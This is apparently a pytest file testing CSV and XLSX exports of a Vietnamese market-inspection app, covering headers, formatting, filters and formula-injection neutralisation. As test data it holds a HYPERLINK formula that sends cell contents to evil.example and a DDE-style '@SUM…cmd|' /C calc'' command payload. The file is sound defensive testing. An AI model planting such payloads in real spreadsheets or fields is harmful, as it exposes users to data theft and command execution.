"""The list exports: CSV and XLSX read back (csv, openpyxl), Vietnamese headers and labels, the list's rows in the
list's order, the list's filters, bad filters, odd stored text, and formula injection."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from inspect_app.exports.formats import (
    BOM,
    XLSX_MAX_TEXT,
    Field,
    csv_cell,
    csv_chunks,
    neutralise,
    write_xlsx,
)
from inspect_app.exports.queries import EXPORTS, build_export
from inspect_app.extensions import db
from inspect_app.inspections.queries import inspections_page
from inspect_app.minutes.queries import minutes_page
from inspect_app.models import Finding, Inspection, PrepackagedLot, Premise, Reading
from inspect_app.premises.queries import premises_page
from tests.factories import make_metrology, make_minutes, make_premise, make_reading_and_lot, make_records

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
LONG = "Ghi chú rất dài. " * 3000  # 51,000 characters: more than an XLSX cell holds


# ---- pure formatting -------------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8")), "the CSV must start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=False)
    rows = []
    for sheet in book.worksheets:
        if sheet.title == "Mô tả cột":  # the columns' descriptions, not data
            continue
        sheet_rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        rows.extend(sheet_rows if not rows else sheet_rows[1:])
    return rows


def test_formula_like_text_is_neutralised_in_csv():
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert neutralise(text) == "'" + text
    assert neutralise("Sạp =1") == "Sạp =1"
    assert neutralise("") == ""


def test_cells_in_each_kind():
    assert csv_cell(Field("x", "decimal"), Decimal("5.150")) == "5.150"
    assert csv_cell(Field("x", "decimal"), Decimal("-0.000")) == "0.000"
    assert csv_cell(Field("x", "decimal"), Decimal("-0.05")) == "-0.05"  # a number, not text: no apostrophe
    assert csv_cell(Field("x", "date"), date(2026, 5, 4)) == "04/05/2026"
    # 23:30 UTC is 06:30 the next morning in Việt Nam.
    assert csv_cell(Field("x", "datetime"), datetime(2026, 5, 4, 23, 30, tzinfo=UTC)) == "05/05/2026 06:30"
    assert csv_cell(Field("x", "bool"), True) == "Có"
    assert csv_cell(Field("x", "bool"), 0) == "Không"
    assert csv_cell(Field("x", "float", places=1), 12.345) == "12.3"
    assert csv_cell(Field("x", "float"), float("nan")) == ""
    assert csv_cell(Field("x", labels={"a": "Ấ", "b": "Bê"}), "a,b,zz") == "Ấ; Bê; zz"
    assert csv_cell(Field("x"), None) == ""
    assert csv_cell(Field("x", "int"), None) == ""


ODD_FIELDS = (
    Field("Tên"),
    Field("Sai số", "decimal"),
    Field("Ngày", "date"),
    Field("Lúc", "datetime"),
    Field("Số", "int"),
    Field("Loại", labels={"pass": "Đạt"}),
)
ODD_ROWS = [
    (FORMULA, Decimal("0.005"), date(2026, 1, 31), datetime(2026, 1, 31, 17, 0, tzinfo=UTC), 7, "pass"),
    ("", None, None, None, None, None),
    (LONG, Decimal("12345678901234567.5"), None, None, 0, "unknown_code"),
    ('Dòng 1\nDòng 2, "ngoặc" \x01\x00 ký tự lạ', Decimal("-1.50"), None, None, -3, ""),
]


def test_odd_rows_survive_csv():
    data = b"".join(csv_chunks(ODD_FIELDS, ODD_ROWS))
    rows = read_csv(data)
    assert rows[0] == ["Tên", "Sai số", "Ngày", "Lúc", "Số", "Loại"]
    assert rows[1] == ["'" + FORMULA, "0.005", "31/01/2026", "01/02/2026 00:00", "7", "Đạt"]
    assert rows[2] == ["", "", "", "", "", ""]
    assert rows[3][0] == LONG and rows[3][1] == "12345678901234567.5" and rows[3][5] == "unknown_code"
    assert rows[4][0].startswith('Dòng 1\nDòng 2, "ngoặc"') and rows[4][1] == "-1.50"
    assert len(rows) == 5


def test_odd_rows_survive_xlsx(tmp_path):
    path = tmp_path / "odd.xlsx"
    assert write_xlsx(str(path), ODD_FIELDS, ODD_ROWS, "Thử") == 4
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Thử"
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["Tên", "Sai số", "Ngày", "Lúc", "Số", "Loại"]
    # A string cell, never a formula: kept as stored.
    assert rows[1][0] == FORMULA and sheet.cell(2, 1).data_type == "s"
    assert rows[1][1] == pytest.approx(0.005) and sheet.cell(2, 2).number_format == "0.000"
    assert rows[1][2] == datetime(2026, 1, 31) and sheet.cell(2, 3).number_format == "dd/mm/yyyy"
    assert rows[1][3] == datetime(2026, 2, 1, 0, 0)
    assert rows[1][4:] == [7, "Đạt"]
    assert rows[2] == [None] * 6
    assert len(rows[3][0]) == XLSX_MAX_TEXT and rows[3][0].endswith("…")
    # More significant digits than a double holds: written as its exact text.
    assert rows[3][1] == "12345678901234567.5"
    assert rows[4][0].startswith("Dòng 1\nDòng 2") and "\x00" not in rows[4][0]
    assert rows[4][1] == -1.5 and sheet.cell(5, 2).number_format == "0.00"
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_decimals_read_back_exactly_from_xlsx(tmp_path):
    values = [Decimal(text) for text in ("0.1", "2.00", "-0.05", "14.999", "123456789.012345", "0.0000001")]
    path = tmp_path / "d.xlsx"
    write_xlsx(str(path), (Field("v", "decimal"),), [(v,) for v in values], "d")
    sheet = openpyxl.load_workbook(path).active
    for index, value in enumerate(values, start=2):
        cell = sheet.cell(index, 1)
        places = max(0, -value.as_tuple().exponent)
        # What Excel shows (15 significant digits, the cell's decimal places) is the stored value.
        assert Decimal(repr(cell.value)).quantize(Decimal(1).scaleb(-places)) == value
        assert cell.number_format == ("0." + "0" * places if places else "0")


# ---- through the app ---------------------------------------------------------------------------------------------


@pytest.fixture
def records(world):
    """Unit A: an inspection with a finding, a reading and a lot, and a biên bản; unit A2 and unit B the same."""
    made = {}
    for key, premise, user in (
        ("a", world.premise_a, world.users["inspector"]),
        ("b", world.premise_b, world.other_users["inspector"]),
    ):
        recs = make_records(premise, user)
        metrology = make_metrology(premise, user)
        recs.update(
            make_reading_and_lot(recs["inspection"], metrology["instrument"], metrology["standard"], user)
        )
        clerk = world.users["staff"] if key == "a" else world.other_users["staff"]
        recs["minutes"] = make_minutes(make_premise(premise.unit), user, clerk)
        made[key] = recs
    made["a2"] = make_records(world.premise_a2, world.users["supervisor_province"])
    return made


def download(client, list_name: str, fmt: str, query: str = "") -> tuple[list[str], list[list]]:
    response = client.get(f"/exports/{list_name}.{fmt}{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert "attachment" in response.headers["Content-Disposition"]
    data = response.get_data()
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    return rows[0], rows[1:]


def list_ids(list_name: str, user) -> list:
    """The records of the desk list (or, for findings, readings and lots, of its inspections), in its order."""
    if list_name == "premises":
        return [p.id for p in premises_page(user, status=None, limit=10_000).items]
    if list_name == "inspections":
        return [i.id for i in inspections_page(user, limit=10_000).items]
    if list_name == "minutes":
        return [m.number for m in minutes_page(user, limit=10_000).items]
    inspections = inspections_page(user, limit=10_000).items
    model = {"findings": Finding, "readings": Reading, "lots": PrepackagedLot}[list_name]
    ids = []
    for inspection in inspections:
        ids += db.session.scalars(
            db.select(model.id).where(model.inspection_id == inspection.id).order_by(model.id)
        ).all()
    return ids


def row_ids(list_name: str, header: list[str], rows: list[list]) -> list:
    column = {
        "premises": "Mã cơ sở",
        "inspections": "Mã cuộc kiểm tra",
        "findings": None,
        "readings": "Mã phép đo",
        "lots": "Mã lô",
        "minutes": "Số biên bản",
    }[list_name]
    if list_name == "findings":
        # A finding is its inspection and item.
        ids = []
        for row in rows:
            inspection = int(row[header.index("Mã cuộc kiểm tra")])
            code = row[header.index("Mã nội dung")]
            ids.append(
                db.session.scalar(
                    db.select(Finding.id).where(
                        Finding.inspection_id == inspection, Finding.item_code == code
                    )
                )
            )
        return ids
    values = [row[header.index(column)] for row in rows]
    if list_name == "minutes":
        return [int(str(v).split("/")[0]) for v in values]
    return [int(v) for v in values]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("list_name", [name for name in EXPORTS if name != "quarterly"])
def test_each_export_has_the_lists_rows_with_vietnamese_headers(
    app, client, login, world, records, list_name, fmt
):
    for who in ("inspector", "supervisor_province"):
        user = world.users[who]
        login(user)
        header, rows = download(client, list_name, fmt)
        with app.test_request_context():
            fields = build_export(list_name, user, {}).fields
            assert header == [field.header for field in fields]
            assert row_ids(list_name, header, rows) == list_ids(list_name, user), (who, list_name)
        assert rows, (who, list_name)
        text = repr(rows)
        assert "Phường Pleiku Thử" not in text and "Sạp bí mật" not in text
        sibling_unit_listed = who == "supervisor_province" and list_name in (
            "premises",
            "inspections",
            "findings",
        )
        assert ("Xã Ba Động Thử" in text) == sibling_unit_listed


def test_labels_dates_and_exact_decimals(client, login, world, records):
    login(world.users["inspector"])
    header, rows = download(client, "readings", "csv")
    row = dict(zip(header, rows[0], strict=True))
    reading = records["a"]["reading"]
    assert row["Loại phép đo"] == "Kiểm tra sai số cân"
    assert row["Giá trị chỉ thị"] == "2.00" and row["Giá trị chuẩn"] == str(reading.reference)
    assert row["Sai số"] == str(reading.error) and row["Sai số cho phép"] == str(reading.permitted_error)
    assert row["Kết luận"] in ("Đạt", "Không đạt", "Không đủ cơ sở kết luận")
    assert row["Đo lúc"][2] == "/" and row["Đo lúc"][5] == "/"
    header, rows = download(client, "readings", "xlsx")
    row = dict(zip(header, rows[0], strict=True))
    assert Decimal(repr(row["Giá trị chỉ thị"])) == Decimal("2") and isinstance(row["Đo lúc"], datetime)
    header, rows = download(client, "findings", "csv")
    row = dict(zip(header, rows[0], strict=True))
    assert row["Kết quả"] == "Đạt" and row["Nhóm"] == "Niêm yết giá" and row["Nội dung kiểm tra"]
    header, rows = download(client, "minutes", "csv")
    row = dict(zip(header, rows[0], strict=True))
    assert row["Trạng thái"] == "Có hiệu lực" and row["Số biên bản"].startswith("01/")
    assert row["Kết quả"] == "Yêu cầu khắc phục"


def test_filters_are_the_lists(client, login, world, records):
    login(world.users["supervisor_province"])
    make_premise(world.unit_a, name="Tạp hóa Lọc Thử", premise_type="grocery")
    _, rows = download(client, "premises", "csv", "?type=grocery")
    assert [r[1] for r in rows] == ["Tạp hóa Lọc Thử"]
    _, rows = download(client, "premises", "csv", f"?unit={world.unit_a2.id}")
    assert [r[1] for r in rows] == ["Tạp hóa Đinh Văn Ba"]
    _, rows = download(client, "premises", "xlsx", "?q=nguyen+huong")
    assert [r[1] for r in rows] == ["Sạp cân Nguyễn Thị Hường"]
    completed = {i.id for i in db.session.scalars(db.select(Inspection).where(Inspection.status != "draft"))}
    header, rows = download(client, "inspections", "csv", "?status=minutes_issued")
    assert rows and {int(r[0]) for r in rows} <= completed
    assert all(r[header.index("Trạng thái")] == "Đã lập biên bản" for r in rows)
    header, rows = download(client, "findings", "csv", "?status=minutes_issued")
    # What was answered, and every other item of the checklist marked "Không kiểm tra" before completing.
    answered = {r[header.index("Mã nội dung")] for r in rows if r[header.index("Kết quả")] != "Không kiểm tra"}
    assert answered == {"GIA-01", "NHAN-05"}
    _, rows = download(client, "readings", "csv", "?status=minutes_issued")
    assert rows == []
    _, rows = download(client, "minutes", "csv", "?status=revoked")
    assert rows == []
    _, rows = download(client, "minutes", "xlsx", "?day=2001-01-01")
    assert rows == []
    # Another unit's id is no error and shows nothing, as on the list.
    _, rows = download(client, "premises", "csv", f"?unit={world.unit_b.id}&market={world.market_b.id}")
    assert rows == []
    # The list page's paging cursor is not a filter of the export.
    _, rows = download(client, "inspections", "csv", "?after=abc")
    assert len(rows) == 3


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("/exports/premises.csv?type=castle", "Loại hình cơ sở không hợp lệ"),
        ("/exports/premises.xlsx?market=x1", "Chợ không hợp lệ"),
        ("/exports/premises.csv?status=open", "Trạng thái cơ sở không hợp lệ"),
        ("/exports/inspections.csv?unit=abc", "Đơn vị không hợp lệ"),
        ("/exports/readings.csv?outcome=bad", "Kết quả xử lý không hợp lệ"),
        ("/exports/lots.xlsx?kind=secret", "Hình thức kiểm tra không hợp lệ"),
        ("/exports/minutes.csv?day=31-12-2026", "Ngày không hợp lệ"),
        ("/exports/minutes.csv?status=maybe", "Trạng thái biên bản không hợp lệ"),
    ],
)
def test_bad_filters_answer_400_in_vietnamese(client, login, world, url, message):
    login(world.users["inspector"])
    response = client.get(url)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)


def test_unknown_list_or_format_is_404_and_logged_out_is_sent_to_login(client, login, world):
    assert client.get("/exports/premises.csv").status_code == 302
    login(world.users["inspector"])
    assert client.get("/exports/users.csv").status_code == 404
    assert client.get("/exports/premises.pdf").status_code == 404


def test_odd_stored_text_never_breaks_an_export(client, login, world, records):
    premise = db.session.get(Premise, world.premise_a.id)
    premise.owner_name = FORMULA[:160]
    premise.address = "+84 " + "đường dài " * 24
    premise.phone = ""
    inspection = db.session.get(Inspection, records["a"]["inspection"].id)
    inspection.handling_note = LONG
    inspection.basis = "@SUM(1+1)*cmd|' /C calc'!A0"
    finding = db.session.get(Finding, records["a"]["finding"].id)
    finding.note = "-2+3\n\tgiữa dòng \x07 chuông"
    db.session.commit()
    login(world.users["inspector"])
    for fmt in ("csv", "xlsx"):
        header, rows = download(client, "premises", fmt)
        row = dict(zip(header, next(r for r in rows if r[1] == premise.name), strict=True))
        if fmt == "csv":
            assert row["Chủ cơ sở"] == "'" + FORMULA[:160] and row["Địa chỉ"].startswith("'+84")
        else:
            assert row["Chủ cơ sở"] == FORMULA[:160] and row["Địa chỉ"].startswith("+84")
        assert row["Điện thoại"] in ("", None)
        header, rows = download(client, "inspections", fmt)
        row = dict(zip(header, next(r for r in rows if int(r[0]) == inspection.id), strict=True))
        assert row["Ghi chú xử lý"].startswith("Ghi chú rất dài.")
        assert len(row["Ghi chú xử lý"]) == (len(LONG) if fmt == "csv" else XLSX_MAX_TEXT)
        assert row["Căn cứ kiểm tra"].lstrip("'") == "@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["Căn cứ kiểm tra"].startswith("'") == (fmt == "csv")
        header, rows = download(client, "findings", fmt)
        notes = [r[header.index("Ghi chú")] for r in rows]
        assert any(n and n.lstrip("'").startswith("-2+3") for n in notes)


def test_export_links_keep_the_lists_filters(client, login, world, records):
    login(world.users["supervisor_province"])
    page = client.get(f"/premises?type=grocery&unit={world.unit_a.id}").get_data(as_text=True)
    assert (
        f"/exports/premises.xlsx?q=&amp;type=grocery&amp;market=&amp;status=&amp;unit={world.unit_a.id}"
        in page
    )
    page = client.get("/inspections?status=completed&flagged=1").get_data(as_text=True)
    for name in ("inspections", "findings", "readings", "lots"):
        assert f"/exports/{name}.csv?status=completed&amp;kind=&amp;outcome=&amp;unit=&amp;flagged=1" in page
    page = client.get("/minutes?day=2026-05-04&status=valid").get_data(as_text=True)
    assert "/exports/minutes.csv?day=2026-05-04&amp;status=valid" in page
